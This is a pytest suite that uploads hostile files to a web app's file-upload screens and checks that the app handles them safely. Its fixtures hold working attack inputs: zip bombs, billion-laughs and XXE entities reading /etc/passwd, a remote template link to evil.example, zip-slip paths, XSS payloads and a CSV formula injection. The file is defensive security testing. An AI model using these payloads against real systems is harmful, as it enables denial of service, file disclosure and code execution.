"""Files that mean harm, or seem what they are not, put into every screen that takes one."""

from __future__ import annotations

import zipfile
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import cast

import pytest
from lxml import html

from page_driver import Page, northwind
from word_packages import element, letter, links, paragraph


def zipped(**members: str | bytes) -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name.replace("__", "/"), content)
    return held.getvalue()


@cache
def hostile() -> dict[str, bytes]:
    """Return files that are not what they seem, are made to harm, or are as large as may be."""
    zeros = b"0" * 70_000_000
    held = BytesIO()
    with zipfile.ZipFile(held, "w") as package:
        for name, content in letter().items():
            package.writestr(name, content)
    good = held.getvalue()
    laughs = '<!DOCTYPE a [<!ENTITY b0 "ha">'
    for n in range(1, 9):
        laughs += f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">'
    document = element("document", f"<w:body>{paragraph('&b8;')}</w:body>")
    reads = f'<!DOCTYPE a [<!ENTITY b8 SYSTEM "file:///etc/passwd">]>{document}'
    away = links(("rId9", "attachedTemplate", "http://evil.example/x.dotm"), outside=("rId9",))
    script = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
    return {
        "no-zip.docx": b"no zip",
        "cut.docx": good[: len(good) // 2],
        "bomb.docx": word({"word/document.xml": zeros}),
        "laughs.docx": word({"word/document.xml": laughs + "]>" + document}),
        "reads.docx": word({"word/document.xml": reads}),
        "away.docx": word({"word/_rels/settings.xml.rels": away}),
        "macro.docx": word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "climbs.docx": word({"../../../evil.txt": "x", "/tmp/evil.txt": "x"}),
        "deep.docx": word(
            {"word/document.xml": element("document", "<w:p>" * 50_000 + "</w:p>" * 50_000)}
        ),
        "climbs.zip": zipped(**{"..__..__evil.txt": "x", "__tmp__evil.txt": "x"}),
        "bomb.zip": zipped(**{"bomb.txt": zeros, "in.zip": zipped(**{"bomb.txt": zeros})}),
        "many.zip": zipped(**{f"{n}.md": "# x" for n in range(3_000)}),
        "program.exe": b"MZ" + bytes(5_000),
        "program.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 20,
        "script.html": script,
        "script.md": b"# " + script,
        "odd.csv": b'"\xff\xfe\x00,=cmd()|/c calc\n' * 50,
        "bomb.xlsx": zipped(**{"xl__workbook.xml": zeros, "[Content_Types].xml": "<Types/>"}),
        "nul.txt": b"\x00\x1b[31m\x07 hello",
        "<b>name</b>.md": b"# Chief Technology Officer",
    }


def word(parts: dict[str, bytes | str]) -> bytes:
    """Return a letter as a Word file with parts of one's own in it."""
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in letter(more=parts).items():
            package.writestr(name, content)
    return held.getvalue()


UPLOADS = {
    "/publish": "docx md html txt exe",
    "/copies": "docx pdf zip exe",
    "/look": "docx exe",
    "/offers": "docx exe",
    "/ask": "docx xlsx csv exe",
    "/existing": "docx pdf zip md html txt exe csv xlsx",
}
"""Each screen that takes a file: the kinds it reads, with one that none does."""


def form_of(page: Page, path: str) -> dict[str, str]:
    """Return what the form for a file sends beside the file, as the screen has it."""
    (field,) = html.fromstring(page.get(path).body).xpath("//*[@id='file']")
    (form,) = field.iterancestors("form")
    # What says nothing yet has an empty value, which lxml reads as one that is not there.
    return {key: "" if value == "on" else value for key, value in form.form_values()}


@pytest.mark.parametrize("path", UPLOADS)
def test_a_hostile_file_is_told_or_kept_as_it_is_and_does_nothing(
    tmp_path: Path, path: str
) -> None:
    folder = northwind(tmp_path)
    page, before = Page(folder), (folder / "company.yaml").read_bytes()
    form = form_of(page, path)
    for name, content in hostile().items():
        if name.rpartition(".")[2] not in UPLOADS[path].split():
            continue
        answer = page.upload(path, name, content, **form)
        assert answer.status in (200, 303, 422), name
        if answer.status == 303:
            answer = page.get(answer.headers["location"])
            assert answer.status in (200, 422), name
        (main,) = html.fromstring(answer.body).xpath("//main")
        said = cast(str, main.text_content())
        assert "root:x:0" not in said, name
        assert "Traceback" not in said, name
        assert str(tmp_path) not in said.replace(str(folder), ""), name
        assert "/tmp/tmp" not in said, name
        assert main.xpath(".//script | .//img | .//*[@onerror] | .//b[.='name']") == [], name
        if path == "/existing":
            kept = folder / "papers" / name
            assert not kept.exists() or kept.read_bytes() == content
            kept.unlink(missing_ok=True)
    assert (folder / "company.yaml").read_bytes() == before
    assert [each.name for each in tmp_path.iterdir()] == [folder.name]
    assert not Path("/tmp/evil.txt").exists()
    made = {each.name for each in folder.iterdir()}
    assert made <= {"company.yaml", "papers", ".gitignore", ".charter", "templates", "audit.yaml"}
